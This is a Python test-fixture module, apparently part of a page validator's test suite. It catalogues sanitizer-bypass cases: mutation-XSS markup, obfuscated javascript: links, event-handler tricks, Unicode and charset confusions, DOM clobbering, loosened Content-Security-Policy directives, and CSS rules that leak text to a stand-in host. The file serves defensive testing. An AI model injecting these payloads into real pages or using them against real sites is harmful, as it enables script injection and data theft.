"""More ways to spoil a page: what sanitizers were bypassed with, for a browser reads it otherwise than a parser does.

The kinds are those that are known of sanitizers: text that is markup to one of the two (mutation XSS), attributes and
addresses that only one of them finds, characters that only one of them changes, names that the page's own scripts look
up, and what a policy, a header in a `meta`, or a style sheet brings in.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

from support.spoiled_pages import EVIL, SCRIPT, inserted, replaced
from workbench.storage.json_text import digest


def run(what: str, *texts: str, before: str = "</main>") -> Callable[[str], str]:
    """What is inserted, where the policy names the script in it and scripts of these texts."""
    return inserted(what, before, scripts=(EVIL, *texts))


def styled(text: str) -> Callable[[str], str]:
    """A style sheet that the policy names."""
    return inserted(f"<style>{text}</style>", styles=(text,))


def policy(directive: str, more: str) -> Callable[[str], str]:
    """The page whose policy allows more of a directive, or has another one."""
    return replaced(f"{directive} ", f"{directive} {more} ") if directive else replaced("default-src", more)


def script_by_nonce(page: str) -> str:
    page = page.replace("script-src ", "script-src 'nonce-a' ", 1)
    return page.replace("</main>", f"<script nonce=a>{EVIL}</script></main>", 1)


def blocks_after(opening: str, closing: str) -> Callable[[str], str]:
    """The data blocks once more at the end of the page, where they are taken from."""

    def spoil(page: str) -> str:
        start, end = page.index("\n</main>\n<script"), page.rindex("</script>\n") + len("</script>\n")
        return page.replace("</html>", f"{opening}{page[start:end]}{closing}</html>", 1)

    return spoil


def other_data(page: str) -> str:
    """Data that scripts find before those that are compared."""
    found = re.search(r'<script type="application/json" id="view-0".*?</script>\n', page)
    assert found
    text = '{"kind":"table"}'
    other = f'<script type="application/json" id="view-0" data-digest="{digest(text)}">{text}</script>\n'
    return page.replace("<main>", f"{other}<main>", 1)


IMAGE = "<img src='https://x.y/z.png' onerror=x()>"
_TEXTS: dict[str, Callable[[str], str]] = {
    # Markup to one, text to the other.
    "noembed": run(f'<noembed><p title="</noembed>{SCRIPT}"></noembed>'),
    "noframes": run(f'<noframes><p title="</noframes>{SCRIPT}"></noframes>'),
    "text of a frame": run(f'<iframe><p title="</iframe>{SCRIPT}"></iframe>'),
    "text of a frame in entities": inserted(f"<iframe srcdoc='&lt;script&gt;{EVIL}&lt;/script&gt;'></iframe>"),
    "listing": run(f"<listing>\n&lt;script&gt;</listing>{SCRIPT}"),
    "title in a drawing": run(f"<svg><title><style><a title='</style>{SCRIPT}'></title></svg>"),
    "description of a drawing": run(f"<svg><desc><noscript><a title='</noscript>{SCRIPT}'></desc></svg>"),
    "drawing that a paragraph ends": inserted(f"<svg></p><style><a id='</style>{IMAGE}'></svg>"),
    "drawing that a coloured font ends": inserted(f"<svg><font color=x><style><a id='</style>{IMAGE}'></svg>"),
    "characters as they are, in a drawing's style": run(f"<svg><style><![CDATA[</style>]]></style>{SCRIPT}</svg>"),
    "formula in a form in a form": inserted(
        f"<form><math><mtext></form><form><mglyph><style></math>{IMAGE}</style></mglyph></form>"
    ),
    "formula with a malignmark": inserted(f"<math><mtext><table><malignmark><style><!--</style>{IMAGE}-->"),
    "formula with a drawing": run(f"<math><annotation-xml><svg><style><a title='</style>{SCRIPT}'></svg></math>"),
    "link in a link in a table": inserted(f"<a><table><a id='</table>{IMAGE}'></table></a>"),
    "template in a template": run(f"<template><template></template>{SCRIPT}</template>"),
    "column groups": inserted(f"<table><colgroup><template></colgroup>{IMAGE}</template></table>"),
    "script in a script": run(f"<script><!--<script></script>{SCRIPT}--></script>", "<!--<script></script>"),
    "conditional comment": run(f"<!--[if gte IE 5]><!-->{SCRIPT}<!--<![endif]-->"),
    "declaration with entities": run(f"<!DOCTYPE x [<!ENTITY y '>{SCRIPT}'>]>"),
    "style sheet as an instruction": lambda p: "<?xml-stylesheet href='https://x.y/z.css'?>" + p,
    "end tag with attributes": run(f"</p title='>{SCRIPT}'>"),
    "tag without an end": inserted("<img src='https://x.y/z.png' "),
    "attribute without an end": inserted("<img src='https://x.y/?"),
    "characters as they are, in a formula's style": run(
        f"<math><mtext><table><mglyph><style><![CDATA[</style>{SCRIPT}]]></style></table></mtext></math>"
    ),
    "characters as they are, with a comment in them": run(f"<![CDATA[<!--]]>{SCRIPT}-->"),
    "comment that a bang ends, before another": run(f"<!--x--!>{SCRIPT}<!-- -->"),
    "comment that its own beginning does not open again": run(f"<!-- <!-- --> {SCRIPT} -->"),
    "button of a select": run(f"<select><button>{SCRIPT}</button></select>"),
    "select in a select": run(f"<select><select>{SCRIPT}"),
    "end tag that closes itself": run(f"<script>0</script/>{SCRIPT}", "0"),
    "end tag with a form feed": run(f"<script>{EVIL}</script\f>"),
    "textarea that a form feed ends": run(f"<textarea>\n</textarea \f>{SCRIPT}"),
    "title in HTML in a drawing": run(f"<svg><foreignObject><title><svg></title>{SCRIPT}"),
    "template of a table's row": run(f"<table><template><tr></template>{SCRIPT}</table>"),
    "formula with HTML, in capitals": run(
        f"<math><annotation-xml encoding='TEXT/HTML'>{SCRIPT}</annotation-xml></math>"
    ),
    "formula that a font with a face ends": run(f"<math><font face=x>{SCRIPT}</font></math>"),
    "end tags that begin something": run(f"</br></p>{SCRIPT}"),
    "server's instructions": run(f"<% > {SCRIPT} %>"),
    "a second body": inserted("<body onload=x()>"),
    "a second root": inserted("<html onclick=x()>"),
    "frames in place of a body": inserted("<frameset onload=x()><frame src='https://x.y/'></frameset>", "<body>"),
}
_ATTRIBUTES: dict[str, Callable[[str], str]] = {
    # Attributes and addresses that only one of them finds.
    "link that runs, by numbers without semicolons": inserted("<a href='&#106avascript&#58x()'>x</a>"),
    "link that runs, by names": inserted("<a href='java&Tab;script&colon;x()'>x</a>"),
    "link that runs, with a line in it": inserted("<a href='java&NewLine;script:x()'>x</a>"),
    "link that runs, behind a control": inserted("<a href='\x01javascript:x()'>x</a>"),
    "link that runs, in capitals": inserted("<a href='JaVaScRiPt:x()'>x</a>"),
    "link that runs, in a formula": inserted("<math href='javascript:x()'><mi>x</mi></math>"),
    "link that runs, in a drawing": inserted("<svg><a xlink:href='javascript:x()'><text>x</text></a></svg>"),
    "link that a drawing sets": inserted("<svg><a><set attributeName=href to='javascript:x()'/></a></svg>"),
    "link to a blob": inserted("<a href='blob:null/1'>x</a>"),
    "link to the source": inserted("<a href='view-source:data:text/html,x'>x</a>"),
    "handler in entities": inserted("<p onclick='&#120;&lpar;&rpar;'>x</p>"),
    "handler without a blank": inserted("<p title='x'onclick=x()>x</p>"),
    "handler behind an equals sign": inserted("<p =onclick=x() onclick=x()>x</p>"),
    "handler behind a quote": inserted("<p \"onclick=x() onclick='x()'>x</p>"),
    "handler behind backquotes": inserted("<p title=`x`onclick=x()>x</p>"),
    "handler of the focus": inserted("<p tabindex=0 autofocus onfocus=x()>x</p>"),
    "handler of details": inserted("<details open ontoggle=x()>x</details>"),
    "handler of a popover": inserted("<p popover id=p onbeforetoggle=x()>x</p><button popovertarget=p>Theme</button>"),
    "handler of a movement": inserted("<svg><animate onbegin=x() attributeName=x dur=1s /></svg>"),
    "handler of an own element": inserted("<x-y onanimationend=x()>x</x-y>"),
    "image by its old name": inserted("<image src='https://x.y/z.png'>"),
    "image by backslashes": inserted(r"<img src='\\x.y\z.png'>"),
    "image without slashes": inserted("<img src='https:x.y/z.png'>"),
    "image by wide dots": inserted("<img src='//x。y/z.png'>"),
    "image of slashes": inserted("<img/src='//x.y/z.png'/>"),
    "background": inserted("<table background='//x.y/z.png'><tr><td>x</table>"),
    "movement along another drawing": inserted("<svg><animateMotion><mpath href='//x.y/z#a'/></animateMotion></svg>"),
    "filter of another drawing": inserted("<svg><filter><feImage href='https://x.y/z'/></filter></svg>"),
    "fill of another drawing": inserted("<svg><rect fill='url(https://x.y/z.svg#a)'/></svg>"),
    "frame that runs": inserted("<iframe src='javascript:x()'></iframe>"),
    "frame that is fenced": inserted("<fencedframe></fencedframe>"),
    "object of data": inserted("<object type='text/html' data='data:text/html,x'></object>"),
    "applet": inserted("<applet code=x codebase='https://x.y/'></applet>"),
    "script of data": inserted("<script src='data:text/javascript,x()'></script>"),
    "script with a file and a text": run(f"<script src='https://x.y/z.js'>{EVIL}</script>"),
}  # fmt: skip
_CHARACTERS: dict[str, Callable[[str], str]] = {
    # Characters that only one of them changes, or takes for letters and blanks.
    "long s": inserted(f"<\u017fcript>{EVIL}</\u017fcript>"),
    "Kelvin sign": inserted("<lin\u212a rel=stylesheet href='//x.y/z.css'>", "</head>"),
    "dotless i": inserted("<\u0131frame src='//x.y/'></\u0131frame>"),
    "soft hyphen": inserted("<scr\u00adipt>x()</script>"),
    "blank that does not break": inserted("<img\u00a0src='//x.y/z.png'>"),
    "vertical tab": inserted("<img\x0bsrc='//x.y/z.png'>"),
    "line separator": inserted("<img\u2028src='//x.y/z.png'>"),
    "byte order mark inside": inserted("\ufeff"),
    "replacement character": inserted("<\ufffdscript>x()</script>"),
    "direction of reading": inserted("<p>\u202ex</p>"),
    "a zero byte in text": inserted("<p>\0x</p>"),
    "one carriage return": lambda p: p.replace("\n", "\r", 1),
    "switch to Japanese": inserted("\x1b$B<script>\x1b(B"),
    "no character set": replaced('<meta charset="utf-8">\n', ""),
    "a second character set": inserted("<meta charset=utf-16le>", "<title>"),
    "character set by a header": inserted(
        "<meta http-equiv=content-type content='text/html; charset=utf-7'>", '<meta charset="utf-8">'
    ),
}
_NAMES: dict[str, Callable[[str], str]] = {
    # Names that the page's scripts look up, and data in places where they do not look.
    "other data of the same name": other_data,
    "an element named as data": inserted("<p id=view-0>{}</p>", "<main>"),
    "a form named as a method": inserted("<form name=getElementById><input name=querySelector></form>"),
    "data once more in a comment": blocks_after("<!--", "-->"),
    "data once more in a template": blocks_after("<template>", "</template>"),
    "data once more in text": blocks_after("<textarea>", "</textarea>"),
    "data of a file": replaced('json" id="words"', 'json" src="https://x.y/z.json" id="words"'),
    "data of a type in capitals": replaced('<script type="application/json" id="words"',
                                           '<script type="Application/JSON" id="words"'),
    "data in another order": lambda p: re.sub(
        r'(<script [^>]* id="words".*?</script>\n)(<script [^>]* id="provenance".*?</script>\n)', r"\2\1", p, count=1
    ),
    "data of two names": replaced('id="words"', 'id="words" id="x"'),
    "data by single quotes": replaced('id="words"', "id='words'"),
    "data that are a module": replaced('<script type="application/json" id="words"', '<script type=module id="words"'),
}  # fmt: skip
_BROUGHT: dict[str, Callable[[str], str]] = {
    # What policies, headers and style sheets bring in.
    "policy given twice": inserted('<meta http-equiv="Content-Security-Policy" content="img-src *">', "<title>"),
    "policy with a nonce": script_by_nonce,
    "policy that trusts what scripts load": policy("script-src", "'strict-dynamic'"),
    "policy that evaluates": policy("script-src", "'unsafe-eval'"),
    "policy with handlers": policy("script-src", "'unsafe-hashes'"),
    "policy with scripts of blobs": policy("script-src", "blob:"),
    "policy for elements apart": policy("", "script-src-elem *; default-src"),
    "policy for attributes apart": policy("", "script-src-attr 'unsafe-inline'; default-src"),
    "policy that reports": policy("", "report-uri https://x.y/; default-src"),
    "policy with pictures of anywhere": policy("img-src", "*"),
    "policy in capitals": replaced("default-src 'none'", "DEFAULT-SRC 'none'"),
    "policy with a tab": replaced("default-src 'none'", "default-src\t'none'"),
    "refresh in noscript": inserted("<noscript><meta http-equiv=refresh content='0;//x.y'></noscript>", "</head>"),
    "header with a preload": inserted("<meta http-equiv=Link content='<//x.y/z>; rel=preload; as=image'>", "<title>"),
    "header with a cookie": inserted("<meta http-equiv=set-cookie content='a=b'>", "<title>"),
    "header for name lookups": inserted("<meta http-equiv=x-dns-prefetch-control content=on>", "<title>"),
    "header with hints": inserted("<meta http-equiv=delegate-ch content='sec-ch-ua https://x.y/'>", "<title>"),
    "who is told of the page": inserted("<meta name=referrer content=unsafe-url>", "<title>"),
    "base without an address": inserted("<base target=_top>", "<title>"),
    "preload by srcset": inserted("<link rel=preload as=image imagesrcset='//x.y/z 1x'>", "</head>"),
    "preload of a module": inserted("<link rel=modulepreload href='//x.y/z.js'>", "</head>"),
    "import of a page": inserted("<link rel=import href='//x.y/'>", "</head>"),
    "styles in a list of relations": inserted("<link rel='x stylesheet' href='//x.y/z.css'>", "</head>"),
    "styles of a relation in entities": inserted("<link rel='&#115;tylesheet' href='//x.y/z.css'>", "</head>"),
    "styles of data": inserted("<link rel=stylesheet href='data:text/css,@import url(//x.y)'>", "</head>"),
    "styles that import, of a drawing": inserted("<svg><style>@import url(//x.y/z.css);</style></svg>"),
    "styles that import, by escapes": styled("@\\69mport '//x.y/z.css';"),
    "styles that tell letters": styled("p[title^=a]{background:url(//x.y/a)}"),
    "styles with sets of images": styled('p{background:image-set("//x.y/z" 1x)}'),
    "styles with a cursor": styled("p{cursor:url(//x.y/z),auto}"),
    "styles with words of their own": styled("h2::after{content:'Sound'}"),
    "import map of data": run('<script type=importmap>{"imports":{"a":"data:text/javascript,x()"}}</script>',
                              '{"imports":{"a":"data:text/javascript,x()"}}', before="</head>"),
}  # fmt: skip
CASES: dict[str, Any] = _TEXTS | _ATTRIBUTES | _CHARACTERS | _NAMES | _BROUGHT
